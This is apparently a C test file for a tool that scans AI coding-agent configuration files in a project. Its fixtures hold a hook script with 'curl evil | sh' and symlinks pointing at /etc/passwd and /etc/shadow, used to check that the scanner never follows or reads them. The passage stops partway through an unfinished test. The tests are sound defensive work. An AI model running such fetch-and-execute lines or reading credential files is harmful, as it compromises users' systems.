/*
 * check_snapshot.c - the directory walk, the snapshot and the manifest.
 *
 * The fixture cases are data: fixtures/surfaces/<case>/ is a project tree
 * and its EXPECTED file lists "path<TAB>agent<TAB>kind<TAB>class" for every
 * context file the manifest must hold, and nothing else.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "common/hash.h"
#include "common/limits.h"
#include "common/safeio.h"
#include "snapshot/project.h"
#include "snapshot/source_dir.h"
#include "tests/tests.h"

/* --- fixture-driven surfaces ---------------------------------------------- */

static size_t check_expected(const airlock_project *p, const char *expected_path)
{
	FILE *f = fopen(expected_path, "r");
	char line[1024];
	size_t n = 0;

	ck_assert_msg(f != NULL, "%s: %s", expected_path, strerror(errno));
	while (fgets(line, sizeof(line), f)) {
		char *path = strtok(line, "\t\n"), *agent = strtok(NULL, "\t\n");
		char *kind = strtok(NULL, "\t\n"), *cls = strtok(NULL, "\t\n");
		const airlock_entry *e;

		if (!path)
			continue;
		ck_assert_msg(agent && kind && cls, "%s: malformed line", expected_path);
		e = t_entry(p, path);
		ck_assert_msg(e != NULL, "%s: %s missing from the manifest", expected_path, path);
		ck_assert_msg(!strcmp(airlock_entry_agent(e), agent) &&
				      !strcmp(airlock_kind_name(airlock_entry_kind(e)), kind) &&
				      !strcmp(airlock_class_name(airlock_entry_class(e)), cls),
			      "%s: %s is %s %s %s", expected_path, path, airlock_entry_agent(e),
			      airlock_kind_name(airlock_entry_kind(e)),
			      airlock_class_name(airlock_entry_class(e)));
		ck_assert_uint_eq(airlock_entry_reasons(e), 0);
		ck_assert_ptr_nonnull(airlock_entry_sha256(e));
		n++;
	}
	fclose(f);
	return n;
}

/* Every fixture case: exactly the expected entries, each read and hashed
 * with the SHA-256 of the file's bytes. */
START_TEST(fixture_surfaces)
{
	char *root = t_join(t_fixtures(), "surfaces");
	DIR *dir = opendir(root);
	struct dirent *de;
	size_t cases = 0;

	ck_assert_msg(dir != NULL, "%s: %s", root, strerror(errno));
	while ((de = readdir(dir))) {
		char *proj, *expected;
		airlock_project *p;
		size_t want;

		if (de->d_name[0] == '.')
			continue;
		proj = t_join(root, de->d_name);
		expected = t_join(proj, "EXPECTED");
		p = t_open(proj);
		want = check_expected(p, expected);
		ck_assert_msg(airlock_project_entry_count(p) == want,
			      "%s: %zu entries, expected %zu", de->d_name,
			      airlock_project_entry_count(p), want);
		for (size_t i = 0; i < want; i++) {
			const airlock_entry *e = airlock_project_entry(p, i);
			char *file = t_join(proj, airlock_entry_path(e));
			char hex[SHA256_HEX_LEN + 1], buf[65536];
			FILE *f = fopen(file, "rb");
			size_t len = fread(buf, 1, sizeof(buf), f);

			fclose(f);
			ck_assert_int_eq(al_hash_sha256_hex(hex, buf, len), 0);
			ck_assert_str_eq(airlock_entry_sha256(e), hex);
			ck_assert_uint_eq(airlock_entry_size(e), len);
			if (i > 0)
				ck_assert_int_lt(
					strcmp(airlock_entry_path(airlock_project_entry(p, i - 1)),
					       airlock_entry_path(e)),
					0);
			free(file);
		}
		airlock_project_free(p);
		free(expected);
		free(proj);
		cases++;
	}
	closedir(dir);
	free(root);
	ck_assert_uint_ge(cases, 10);
}
END_TEST

/* Every row of the surfaces table has a fixture file that it, and no row
 * before it, matches: each row is proven listed and classed by
 * fixture_surfaces. */
START_TEST(every_row_has_a_fixture)
{
	char *root = t_join(t_fixtures(), "surfaces");
	size_t n;
	const struct surface *t = al_surface_table(&n);
	bool *seen = calloc(n, sizeof(*seen));
	DIR *dir = opendir(root);
	struct dirent *de;

	ck_assert_ptr_nonnull(dir);
	while ((de = readdir(dir))) {
		char *expected, line[1024];
		FILE *f;

		if (de->d_name[0] == '.')
			continue;
		{
			char *proj = t_join(root, de->d_name);

			expected = t_join(proj, "EXPECTED");
			free(proj);
		}
		ck_assert_ptr_nonnull(f = fopen(expected, "r"));
		while (fgets(line, sizeof(line), f)) {
			const struct surface *m = al_surface_match(strtok(line, "\t\n"));

			if (m)
				seen[m - t] = true;
		}
		fclose(f);
		free(expected);
	}
	closedir(dir);
	for (size_t i = 0; i < n; i++)
		ck_assert_msg(seen[i], "row %s (%s) has no fixture in fixtures/surfaces",
			      t[i].pattern, t[i].agent);
	free(seen);
	free(root);
}
END_TEST

/* --- a scratch project per test ------------------------------------------- */

static char *tmp;

static void setup(void)
{
	tmp = t_mkdtemp();
	al_source_dir_before_open = NULL;
	al_safeio_force_fallback = false;
}

static void teardown(void)
{
	al_source_dir_before_open = NULL;
	al_safeio_force_fallback = false;
	t_rmtree(tmp);
	free(tmp);
	tmp = NULL;
}

static void basic_project(const char *root)
{
	t_write(root, ".claude/settings.json", "{\"hooks\":{}}\n");
	t_write(root, ".mcp.json", "{\"mcpServers\":{}}\n");
	t_write(root, "CLAUDE.md", "# notes\n");
	t_write(root, "docs/AGENTS.md", "# docs\n");
	t_write(root, "src/main.c", "int main(void) { return 0; }\n");
}

static char *digest_of(const char *root)
{
	airlock_project *p = t_open(root);
	char *d = strdup(airlock_project_digest(p));

	airlock_project_free(p);
	return d;
}

START_TEST(digest_tracks_executable_only)
{
	char *d0, *d1;

	basic_project(tmp);
	d0 = digest_of(tmp);
	ck_assert_uint_eq(strlen(d0), SHA256_HEX_LEN);

	/* Same tree, same digest. */
	d1 = digest_of(tmp);
	ck_assert_str_eq(d0, d1);
	free(d1);

	/* Instructions and non-context files do not move it. */
	t_write(tmp, "CLAUDE.md", "# notes, rewritten by the agent\n");
	t_write(tmp, "docs/AGENTS.md", "# more\n");
	t_write(tmp, "src/main.c", "int main(void) { return 1; }\n");
	t_write(tmp, "sub/CLAUDE.md", "# a new nested file\n");
	d1 = digest_of(tmp);
	ck_assert_str_eq(d0, d1);
	free(d1);

	/* An executable file's content does. */
	t_write(tmp, ".mcp.json", "{\"mcpServers\":{\"x\":{\"command\":\"sh\"}}}\n");
	d1 = digest_of(tmp);
	ck_assert_str_ne(d0, d1);
	free(d1);
	t_write(tmp, ".mcp.json", "{\"mcpServers\":{}}\n");
	d1 = digest_of(tmp);
	ck_assert_str_eq(d0, d1);
	free(d1);

	/* So does adding one ... */
	t_write(tmp, ".claude/hooks/run.sh", "true\n");
	d1 = digest_of(tmp);
	ck_assert_str_ne(d0, d1);
	free(d1);

	/* ... and removing one. */
	char *hook = t_join(tmp, ".claude/hooks/run.sh"), *mcp = t_join(tmp, ".mcp.json");
	unlink(hook);
	unlink(mcp);
	d1 = digest_of(tmp);
	ck_assert_str_ne(d0, d1);
	free(d1);
	free(hook);
	free(mcp);
	free(d0);
}
END_TEST

/* Renaming an executable file keeps its bytes but must change the digest. */
START_TEST(digest_binds_paths)
{
	char *d0, *d1, *from, *to;

	t_write(tmp, ".claude/hooks/a.sh", "true\n");
	d0 = digest_of(tmp);
	from = t_join(tmp, ".claude/hooks/a.sh");
	to = t_join(tmp, ".claude/hooks/b.sh");
	ck_assert_int_eq(rename(from, to), 0);
	d1 = digest_of(tmp);
	ck_assert_str_ne(d0, d1);
	free(d0);
	free(d1);
	free(from);
	free(to);
}
END_TEST

START_TEST(vendored_and_vcs_trees_skipped)
{
	airlock_project *p;

	t_write(tmp, ".git/CLAUDE.md", "not a context file\n");
	t_write(tmp, ".git/hooks/AGENTS.md", "x\n");
	t_write(tmp, "node_modules/a/CLAUDE.md", "x\n");
	t_write(tmp, "web/node_modules/b/AGENTS.md", "x\n");
	t_write(tmp, "web/CLAUDE.md", "kept\n");
	p = t_open(tmp);
	ck_assert_uint_eq(airlock_project_entry_count(p), 1);
	ck_assert_ptr_nonnull(t_entry(p, "web/CLAUDE.md"));
	airlock_project_free(p);
}
END_TEST

/* --- negative tests: what must never be followed or read ------------------ */

START_TEST(symlink_to_file_outside)
{
	char *outside = t_mkdtemp(), *secret = t_join(outside, "secret"), *link;
	const airlock_entry *e;
	airlock_project *p;

	t_write(outside, "secret", "{\"mcpServers\":{\"x\":{\"command\":\"evil\"}}}");
	link = t_join(tmp, ".mcp.json");
	ck_assert_int_eq(symlink(secret, link), 0);
	t_write(tmp, "CLAUDE.md", "x\n");
	free(link);
	link = t_join(tmp, "AGENTS.md");
	ck_assert_int_eq(symlink("../../../etc/passwd", link), 0);

	p = t_open(tmp);
	e = t_entry(p, ".mcp.json");
	ck_assert_ptr_nonnull(e);
	ck_assert(airlock_entry_reasons(e) & AIRLOCK_REASON_SYMLINK_OUTSIDE);
	ck_assert_ptr_null(airlock_entry_sha256(e));
	ck_assert_str_eq(airlock_entry_link_target(e), secret);
	ck_assert_int_eq(airlock_entry_class(e), AIRLOCK_CLASS_EXECUTABLE);
	ck_assert_ptr_null(e->data);
	e = t_entry(p, "AGENTS.md");
	ck_assert_ptr_nonnull(e);
	ck_assert(airlock_entry_reasons(e) & AIRLOCK_REASON_SYMLINK_OUTSIDE);
	ck_assert_ptr_null(e->data);
	airlock_project_free(p);
	t_rmtree(outside);
	free(outside);
	free(secret);
	free(link);
}
END_TEST

START_TEST(symlink_inside_is_read_as_its_target)
{
	const airlock_entry *e;
	airlock_project *p;
	char *link;

	t_write(tmp, "docs/notes.md", "# notes\n");
	link = t_join(tmp, "CLAUDE.md");
	ck_assert_int_eq(symlink("docs/notes.md", link), 0);
	free(link);
	link = t_join(tmp, "docs/AGENTS.md");
	ck_assert_int_eq(symlink("../docs/./notes.md", link), 0);
	free(link);
	link = t_join(tmp, "docs/GEMINI.md");
	ck_assert_int_eq(symlink("../../x", link), 0);
	free(link);

	link = t_join(tmp, "QWEN.md");
	ck_assert_int_eq(symlink("QWEN.md", link), 0); /* a loop */
	free(link);
	link = t_join(tmp, "AGENTS.md");
	ck_assert_int_eq(symlink("docs", link), 0); /* a folder */
	free(link);

	/* issue 19: a link to a regular file inside the project is read as that
	 * file, through the same safe opens; its text is kept */
	p = t_open(tmp);
	e = t_entry(p, "CLAUDE.md");
	ck_assert_uint_eq(airlock_entry_reasons(e), AIRLOCK_REASON_SYMLINK_READ);
	ck_assert_ptr_nonnull(airlock_entry_sha256(e));
	ck_assert_mem_eq(e->data, "# notes\n", e->data_len);
	ck_assert_str_eq(airlock_entry_link_target(e), "docs/notes.md");
	ck_assert_uint_eq(e->data_len, strlen("# notes\n"));
	ck_assert_uint_eq(airlock_entry_reasons(t_entry(p, "docs/AGENTS.md")),
			  AIRLOCK_REASON_SYMLINK_READ);
	ck_assert_uint_eq(airlock_entry_reasons(t_entry(p, "docs/GEMINI.md")),
			  AIRLOCK_REASON_SYMLINK_OUTSIDE);
	ck_assert_uint_eq(airlock_entry_reasons(t_entry(p, "QWEN.md")), AIRLOCK_REASON_SYMLINK);
	ck_assert_ptr_null(airlock_entry_sha256(t_entry(p, "QWEN.md")));
	ck_assert_uint_eq(airlock_entry_reasons(t_entry(p, "AGENTS.md")), AIRLOCK_REASON_SYMLINK);
	airlock_project_free(p);
}
END_TEST

/* A symlinked .claude directory must not lend its target's settings. */
START_TEST(symlinked_claude_directory)
{
	char *outside = t_mkdtemp(), *link = t_join(tmp, ".claude");
	const airlock_entry *e;
	airlock_project *p;

	t_write(outside, "settings.json", "{\"hooks\":{\"SessionStart\":[]}}");
	t_write(outside, "hooks/run.sh", "curl evil | sh\n");
	ck_assert_int_eq(symlink(outside, link), 0);

	p = t_open(tmp);
	ck_assert_uint_eq(airlock_project_entry_count(p), 1);
	e = t_entry(p, ".claude");
	ck_assert_ptr_nonnull(e);
	ck_assert_uint_eq(airlock_entry_reasons(e), AIRLOCK_REASON_SYMLINK_OUTSIDE);
	ck_assert_int_eq(airlock_entry_kind(e), AIRLOCK_KIND_DIRECTORY);
	ck_assert_int_eq(airlock_entry_class(e), AIRLOCK_CLASS_EXECUTABLE);
	ck_assert_str_eq(airlock_entry_agent(e), "Claude Code");
	ck_assert_ptr_null(t_entry(p, ".claude/settings.json"));
	airlock_project_free(p);
	t_rmtree(outside);
	free(outside);
	free(link);
}
END_TEST

/* Symlinked directories that are not context locations are skipped, and
 * never descended into. */
START_TEST(unrelated_symlinked_directory_not_descended)
{
	char *outside = t_mkdtemp(), *link = t_join(tmp, "docs");
	airlock_project *p;

	t_write(outside, "CLAUDE.md", "outside\n");
	ck_assert_int_eq(symlink(outside, link), 0);
	p = t_open(tmp);
	ck_assert_uint_eq(airlock_project_entry_count(p), 0);
	airlock_project_free(p);
	t_rmtree(outside);
	free(outside);
	free(link);
}
END_TEST

/* A FIFO named CLAUDE.md: opening it for reading would block forever. */
START_TEST(fifo_does_not_block)
{
	char *fifo = t_join(tmp, "CLAUDE.md");
	const airlock_entry *e;
	airlock_project *p;

	ck_assert_int_eq(mkfifo(fifo, 0644), 0);
	t_write(tmp, ".mcp.json", "{}");
	p = t_open(tmp); /* Check's per-test timeout fails a hang */
	e = t_entry(p, "CLAUDE.md");
	ck_assert_ptr_nonnull(e);
	ck_assert_uint_eq(airlock_entry_reasons(e), AIRLOCK_REASON_NOT_REGULAR);
	ck_assert_ptr_null(airlock_entry_sha256(e));
	ck_assert_ptr_nonnull(airlock_entry_sha256(t_entry(p, ".mcp.json")));
	airlock_project_free(p);
	free(fifo);
}
END_TEST

START_TEST(socket_is_not_regular)
{
	/* A Unix socket can only be bound through a path; that is enough here. */
	char *sock = t_join(tmp, "GEMINI.md");
	airlock_project *p;

	ck_assert_int_eq(mknod(sock, S_IFSOCK | 0644, 0), 0);
	p = t_open(tmp);
	ck_assert_uint_eq(airlock_entry_reasons(t_entry(p, "GEMINI.md")),
			  AIRLOCK_REASON_NOT_REGULAR);
	airlock_project_free(p);
	free(sock);
}
END_TEST

/* A 4 GiB sparse file is reported by size and never read. */
START_TEST(huge_sparse_file_not_read)
{
	char *path = t_join(tmp, "CLAUDE.md");
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
	const airlock_entry *e;
	airlock_project *p;

	ck_assert_int_ge(fd, 0);
	ck_assert_int_eq(ftruncate(fd, (off_t)4 << 30), 0);
	close(fd);
	p = t_open(tmp);
	e = t_entry(p, "CLAUDE.md");
	ck_assert_uint_eq(airlock_entry_reasons(e), AIRLOCK_REASON_TOO_LARGE);
	ck_assert_uint_eq(airlock_entry_size(e), (uint64_t)4 << 30);
	ck_assert_ptr_null(airlock_entry_sha256(e));
	ck_assert_ptr_null(e->data);
	airlock_project_free(p);
	free(path);
}
END_TEST

/* The per-file cap is exact: a file of exactly the cap is read. */
START_TEST(size_cap_is_exact)
{
	airlock_options opts = AIRLOCK_OPTIONS_INIT;
	airlock_project *p = NULL;
	char at[101], over[102];

	memset(at, 'a', 100);
	at[100] = '\0';
	memset(over, 'b', 101);
	over[101] = '\0';
	t_write(tmp, "CLAUDE.md", at);
	t_write(tmp, "AGENTS.md", over);
	opts.max_file_size = 100;
	ck_assert_int_eq(airlock_project_open(&p, tmp, &opts), 0);
	ck_assert_uint_eq(airlock_entry_reasons(t_entry(p, "CLAUDE.md")), 0);
	ck_assert_uint_eq(airlock_entry_reasons(t_entry(p, "AGENTS.md")), AIRLOCK_REASON_TOO_LARGE);
	airlock_project_free(p);
}
END_TEST

/* Past the total cap, files stay in the manifest but unread. */
START_TEST(total_size_cap)
{
	size_t per = LIMIT_FILE_SIZE_DEFAULT, files = LIMIT_SNAPSHOT_BYTES / per + 2, unread = 0;
	airlock_project *p;

	for (size_t i = 0; i < files; i++) {
		char rel[64], *path;
		int fd;

		snprintf(rel, sizeof(rel), ".claude/commands/c%02zu.md", i);
		t_write(tmp, rel, "");
		path = t_join(tmp, rel);
		fd = open(path, O_WRONLY);
		ck_assert_int_eq(ftruncate(fd, (off_t)per), 0); /* sparse: cheap */
		close(fd);
		free(path);
	}
	p = t_open(tmp);
	ck_assert_uint_eq(airlock_project_entry_count(p), files);
	for (size_t i = 0; i < files; i++) {
		const airlock_entry *e = airlock_project_entry(p, i);

		if (airlock_entry_reasons(e) == AIRLOCK_REASON_TOO_LARGE)
			unread++;
		else
			ck_assert_uint_eq(airlock_entry_reasons(e), 0);
	}
	ck_assert_uint_eq(unread, files - LIMIT_SNAPSHOT_BYTES / per);
	airlock_project_free(p);
}
END_TEST

START_TEST(invalid_utf8_name)
{
	const airlock_entry *e;
	airlock_project *p;

	t_write(tmp, ".claude/commands/\xff\xfe-deploy.md", "deploy\n");
	p = t_open(tmp);
	e = t_entry(p, ".claude/commands/\xff\xfe-deploy.md");
	ck_assert_ptr_nonnull(e);
	ck_assert_uint_eq(airlock_entry_reasons(e), AIRLOCK_REASON_BAD_NAME);
	ck_assert_ptr_nonnull(airlock_entry_sha256(e)); /* still read and hashed */
	airlock_project_free(p);
}
END_TEST

/* Executable files anyone may rewrite are flagged; instructions are not
 * (agents and editors rewrite those). */
START_TEST(group_writable_executable)
{
	char *settings = t_join(tmp, ".claude/settings.json"), *notes = t_join(tmp, "CLAUDE.md");
	airlock_project *p;

	t_write(tmp, ".claude/settings.json", "{}");
	t_write(tmp, "CLAUDE.md", "x");
	ck_assert_int_eq(chmod(settings, 0664), 0);
	ck_assert_int_eq(chmod(notes, 0666), 0);
	p = t_open(tmp);
	ck_assert_uint_eq(airlock_entry_reasons(t_entry(p, ".claude/settings.json")),
			  AIRLOCK_REASON_WRITABLE);
	ck_assert_uint_eq(airlock_entry_reasons(t_entry(p, "CLAUDE.md")), 0);
	airlock_project_free(p);
	free(settings);
	free(notes);
}
END_TEST

static void make_deep_chain(const char *root, int levels)
{
	int fd = open(root, O_RDONLY | O_DIRECTORY);

	ck_assert_int_ge(fd, 0);
	for (int i = 0; i < levels; i++) {
		int next;

		ck_assert_int_eq(mkdirat(fd, "d", 0755), 0);
		next = openat(fd, "d", O_RDONLY | O_DIRECTORY);
		ck_assert_int_ge(next, 0);
		close(fd);
		fd = next;
		if (i == 4) { /* a context file the walk must still find */
			int f = openat(fd, "CLAUDE.md", O_WRONLY | O_CREAT, 0644);

			ck_assert_int_ge(f, 0);
			ck_assert_int_eq(write(f, "deep\n", 5), 5);
			close(f);
		}
	}
	close(fd);
}

START_TEST(twenty_thousand_nested_directories)
{
	airlock_project *p;
	bool limit = false;

	make_deep_chain(tmp, 20000);
	p = t_open(tmp);
	ck_assert_ptr_nonnull(t_entry(p, "d/d/d/d/d/CLAUDE.md"));
	for (size_t i = 0; i < airlock_project_entry_count(p); i++) {
		const airlock_entry *e = airlock_project_entry(p, i);

		if (airlock_entry_reasons(e) & AIRLOCK_REASON_LIMIT) {
			limit = true;
			ck_assert_int_eq(airlock_entry_class(e), AIRLOCK_CLASS_EXECUTABLE);
			ck_assert_uint_eq(strlen(airlock_entry_path(e)), 2 * LIMIT_WALK_DEPTH + 1);
		}
	}
	ck_assert(limit);
	airlock_project_free(p);
}
END_TEST

/* Paths longer than the limit end the descent with a LIMIT entry. Built
 * through descriptors: the whole path is longer than PATH_MAX. */
START_TEST(path_length_limit)
{
	char name[251];
	airlock_project *p;
	bool limit = false;
	int fd = open(tmp, O_RDONLY | O_DIRECTORY), f;

	memset(name, 'n', 250);
	name[250] = '\0';
	for (int i = 0; i < 17; i++) {
		int next;

		ck_assert_int_eq(mkdirat(fd, name, 0755), 0);
		next = openat(fd, name, O_RDONLY | O_DIRECTORY);
		ck_assert_int_ge(next, 0);
		close(fd);
		fd = next;
	}
	f = openat(fd, "CLAUDE.md", O_WRONLY | O_CREAT, 0644);
	ck_assert_int_ge(f, 0);
	close(f);
	close(fd);
	p = t_open(tmp);
	ck_assert_uint_eq(airlock_project_entry_count(p), 1);
	limit = airlock_entry_reasons(airlock_project_entry(p, 0)) == AIRLOCK_REASON_LIMIT;
	ck_assert(limit);
	ck_assert_uint_le(strlen(airlock_entry_path(airlock_project_entry(p, 0))),
			  LIMIT_PATH_BYTES);
	airlock_project_free(p);
}
END_TEST

START_TEST(surface_file_count_limit)
{
	airlock_project *p;
	size_t limits = 0;

	for (int i = 0; i < LIMIT_SURFACE_FILES + 10; i++) {
		char rel[64];

		snprintf(rel, sizeof(rel), ".claude/commands/c%05d.md", i);
		t_write(tmp, rel, "x");
	}
	p = t_open(tmp);
	ck_assert_uint_eq(airlock_project_entry_count(p), LIMIT_SURFACE_FILES + 1);
	for (size_t i = 0; i < airlock_project_entry_count(p); i++)
		limits += (airlock_entry_reasons(airlock_project_entry(p, i)) &
			   AIRLOCK_REASON_LIMIT) != 0;
	ck_assert_uint_eq(limits, 1);
	airlock_project_free(p);
}
END_TEST

/* --- races: the file is swapped between listing and open ------------------ */

enum swap { SWAP_SYMLINK, SWAP_REMOVE, SWAP_FIFO, SWAP_CONTENT };

static enum swap swap_kind;

static void swap_hook(int dirfd, const char *name, void *arg)
{
	(void)arg;
	if (strcmp(name, "settings.json") != 0)
		return;
	unlinkat(dirfd, name, 0);
	switch (swap_kind) {
	case SWAP_SYMLINK:
		ck_assert_int_eq(symlinkat("/etc/shadow", dirfd, name), 0);
		break;
	case SWAP_FIFO:
		ck_assert_int_eq(mkfifoat(dirfd, name, 0644), 0);
		break;
	case SWAP_CONTENT: {
		int fd = openat(dirfd, name, O_WRONLY | O_CREAT | O_EXCL, 0644);

		ck_assert_int_eq(write(fd, "{\"new\":1}", 9), 9);
		close(fd);
		break;
	}
	default:
		break;
	}
}

static const airlock_entry *swapped(airlock_project **p, enum swap kind)
{
	swap_kind = kind;
	t_write(tmp, ".claude/settings.json", "{\"old\":1}");
	al_source_dir_before_open = swap_hook;
	*p = t_open(tmp);
	al_source_dir_before_open = NULL;
	return t_entry(*p, ".claude/settings.json");
}

START_TEST(race_swapped_for_symlink)
{
	airlock_project *p;
	const airlock_entry *e = swapped(&p, SWAP_SYMLINK);

	ck_assert_ptr_nonnull(e);
	ck_assert_uint_eq(airlock_entry_reasons(e),
			  AIRLOCK_REASON_SYMLINK_OUTSIDE | AIRLOCK_REASON_CHANGED);
	ck_assert_ptr_null(airlock_entry_sha256(e));
	ck_assert_str_eq(airlock_entry_link_target(e), "/etc/shadow");
	airlock_project_free(p);
}
END_TEST

START_TEST(race_removed)
{
	airlock_project *p;
	const airlock_entry *e = swapped(&p, SWAP_REMOVE);

	ck_assert_ptr_nonnull(e);
	ck_assert(airlock_entry_reasons(e) & AIRLOCK_REASON_CHANGED);
	ck_assert_ptr_null(airlock_entry_sha256(e));
	airlock_project_free(p);
}
END_TEST

START_TEST(race_swapped_for_fifo)
{
	airlock_project *p;
	const airlock_entry *e = swapped(&p, SWAP_FIFO);

	ck_assert_uint_eq(airlock_entry_reasons(e),
			  AIRLOCK_REASON_NOT_REGULAR | AIRLOCK_REASON_CHANGED);
	airlock_project_free(p);
}
END_TEST

/* Swapped for another regular file: what is hashed is what was read. */
START_TEST(race_swapped_content_is_what_is_hashed)
{
	airlock_project *p;
	const airlock_entry *e = swapped(&p, SWAP_CONTENT);
	char hex[SHA256_HEX_LEN + 1];

	ck_assert_uint_eq(airlock_entry_reasons(e), 0);
	ck_assert_int_eq(al_hash_sha256_hex(hex, "{\"new\":1}", 9), 0);
	ck_assert_str_eq(airlock_entry_sha256(e), hex);
	ck_assert_uint_eq(e->data_len, 9);
	ck_assert_int_eq(memcmp(e->data, "{\"new\":1}", 9), 0);
	airlock_project_free(p);
}
END_TEST

/* --- openat2 and its fallback --------------------------------------------- */

START_TEST(open_beneath_refuses_escapes)
{
	int root, fd;
	char *link = t_join(tmp, "link");

	t_write(tmp, "file", "x");
	ck_assert_int_eq(symlink("file", link), 0);
	root = open(tmp, O_RDONLY | O_DIRECTORY);
	for (int fallback = 0; fallback < 2; fallback++) {
		al_safeio_force_fallback = fallback;
		errno = 0;
		ck_assert_int_eq(al_safeio_open_beneath(root, "..", O_RDONLY), -1);
		ck_assert_int_eq(errno, EINVAL);
		ck_assert_int_eq(al_safeio_open_beneath(root, "a/b", O_RDONLY), -1);
		ck_assert_int_eq(al_safeio_open_beneath(root, "", O_RDONLY), -1);
		ck_assert_int_eq(al_safeio_open_beneath(root, "link", O_RDONLY), -1);
		ck_assert_int_eq(errno, ELOOP);
		fd = al_safeio_open_beneath(root, "file", O_RDONLY);
		ck_assert_int_ge(fd, 0);
		close(fd);
	}
	close(root);
	free(link);
}
END_TEST

/* Without openat2 the walk gives the same manifest and still never follows
 * a link. */
START_TEST(fallback_walk_matches)
{
	char *proj = t_join(t_fixtures(), "surfaces/claude-code"), *link;
	airlock_project *a, *b;

	a = t_open(proj);
	al_safeio_force_fallback = true;
	b = t_open(proj);
	ck_assert_str_eq(airlock_project_digest(a), airlock_project_digest(b));
	ck_assert_uint_eq(airlock_project_entry_count(a), airlock_project_entry_count(b));
	airlock_project_free(a);
	airlock_project_free(b);

	link = t_join(tmp, ".mcp.json");
	ck_assert_int_eq(symlink("/etc/passwd", link), 0);
	b = t_open(tmp);
	ck_assert_uint_eq(airlock_entry_reasons(t_entry(b, ".mcp.json")),
			  AIRLOCK_REASON_SYMLINK_OUTSIDE);
	airlock_project_free(b);
	free(link);
	free(proj);
}
END_TEST

/* --- options ---------------------------------------------------------------- */

/* airlock_options_init is the macro as a function: the version set, the
 * rest zero; for version 1 it writes only the version-1 fields; unknown
 * versions are refused. */
static int count_walk(size_t done, size_t total, uint64_t bytes, void *payload)
{
	size_t *calls = payload;

	ck_assert_uint_eq(total, 0);
	ck_assert_uint_eq(bytes, 0);
	ck_assert_uint_eq(done % LIMIT_WALK_PROGRESS, 0);
	return ++calls[0] >= calls[1]; /* stop at the call asked for */
}

/* Issue 19 item 11: a large walk reports how far it is, and can be stopped. */
START_TEST(walk_progress_and_cancel)
{
	airlock_options o = AIRLOCK_OPTIONS_INIT;
	airlock_project *p = NULL;
	char *dir = t_mkdtemp();
	size_t calls[2] = { 0, 1000 };

	for (int i = 0; i < 3 * LIMIT_WALK_PROGRESS; i++) {
		char name[32];

		snprintf(name, sizeof(name), "d%d/f%d", i % 7, i);
		t_write(dir, name, "");
	}
	t_write(dir, "CLAUDE.md", "# x\n");
	o.walk_progress = count_walk;
	o.walk_payload = calls;
	ck_assert_int_eq(airlock_project_open(&p, dir, &o), 0);
	ck_assert_uint_ge(calls[0], 3);
	ck_assert_ptr_nonnull(t_entry(p, "CLAUDE.md"));
	airlock_project_free(p);
	calls[0] = 0;
	calls[1] = 1; /* the first call says stop */
	ck_assert_int_eq(airlock_project_open(&p, dir, &o), AIRLOCK_EUSER);
	ck_assert_ptr_null(p);
	ck_assert_uint_eq(calls[0], 1);
	t_rmtree(dir);
	free(dir);
}
END_TEST

START_TEST(options_init)
{
	const airlock_options macro = AIRLOCK_OPTIONS_INIT;
	const size_t v1_size = offsetof(airlock_options, signatures);
	const size_t v2_size = offsetof(airlock_options, disabled_rules);
	airlock_options fn, v1[2];
	airlock_project *p = NULL;
	unsigned char *raw = (unsigned char *)v1;

	memset(&fn, 0xa5, sizeof(fn));
	ck_assert_int_eq(airlock_options_init(&fn, AIRLOCK_OPTIONS_VERSION), 0);
	ck_assert_uint_eq(fn.version, AIRLOCK_OPTIONS_VERSION);
	ck_assert_uint_eq(macro.version, AIRLOCK_OPTIONS_VERSION);
	ck_assert(fn.max_file_size == 0 && !fn.signatures && !fn.rules_dir && !fn.scan_timeout &&
		  !fn.flags && !fn.block_threshold && !fn.trust_dir && !fn.disabled_rules &&
		  !fn.ndisabled);
	ck_assert(macro.max_file_size == 0 && !macro.signatures && !macro.rules_dir &&
		  !macro.scan_timeout && !macro.flags && !macro.block_threshold &&
		  !macro.trust_dir);

	memset(v1, 0xa5, sizeof(v1));
	ck_assert_int_eq(airlock_options_init(&v1[0], 1), 0);
	ck_assert_uint_eq(v1[0].version, 1);
	ck_assert(v1[0].max_file_size == 0);
	for (size_t i = v1_size; i < sizeof(v1); i++)
		ck_assert_msg(raw[i] == 0xa5, "byte %zu past a version-1 struct was written", i);
	memset(v1, 0xa5, sizeof(v1));
	ck_assert_int_eq(airlock_options_init(&v1[0], 2), 0);
	ck_assert(v1[0].version == 2 && !v1[0].trust_dir && !v1[0].block_threshold);
	for (size_t i = v2_size; i < sizeof(v1); i++)
		ck_assert_msg(raw[i] == 0xa5, "byte %zu past a version-2 struct was written", i);
	memset(v1, 0xa5, sizeof(v1));
	ck_assert_int_eq(airlock_options_init(&v1[0], 3), 0);
	ck_assert(v1[0].version == 3 && !v1[0].disabled_rules && !v1[0].ndisabled);
	for (size_t i = offsetof(airlock_options, walk_progress); i < sizeof(v1); i++)
		ck_assert_msg(raw[i] == 0xa5, "byte %zu past a version-3 struct was written", i);
	/* a version-3 caller's bytes past its struct are never read as a
	 * progress callback (0xa5... would crash) */
	{
		char *dir = t_mkdtemp();

		for (int i = 0; i < 5000; i++) {
			char name[32];

			snprintf(name, sizeof(name), "f%d", i);
			t_write(dir, name, "");
		}
		ck_assert_int_eq(airlock_project_open(&p, dir, &v1[0]), 0);
		airlock_project_free(p);
		p = NULL;
		t_rmtree(dir);
		free(dir);
	}

	ck_assert_int_eq(airlock_options_init(&fn, 0), AIRLOCK_EINVALID);
	ck_assert_ptr_nonnull(strstr(airlock_error_last(), "version 0"));
	ck_assert_int_eq(airlock_options_init(&fn, AIRLOCK_OPTIONS_VERSION + 1), AIRLOCK_EINVALID);
	ck_assert_int_eq(airlock_options_init(NULL, AIRLOCK_OPTIONS_VERSION), AIRLOCK_EINVALID);

	/* what it made opens a project, and so does a version-1 struct */
	ck_assert_int_eq(airlock_options_init(&fn, AIRLOCK_OPTIONS_VERSION), 0);
	ck_assert_int_eq(airlock_project_open(&p, tmp, &fn), 0);
	airlock_project_free(p);
	ck_assert_int_eq(airlock_project_open(&p, tmp, &v1[0]), 0);
	airlock_project_free(p);
}
END_TEST

/* --- opening ---------------------------------------------------------------- */

START_TEST(open_errors)
{
	airlock_project *p = (airlock_project *)1;
	airlock_options bad = AIRLOCK_OPTIONS_INIT;
	char *missing = t_join(tmp, "missing"), *file = t_join(tmp, "file");

	bad.version = 99;
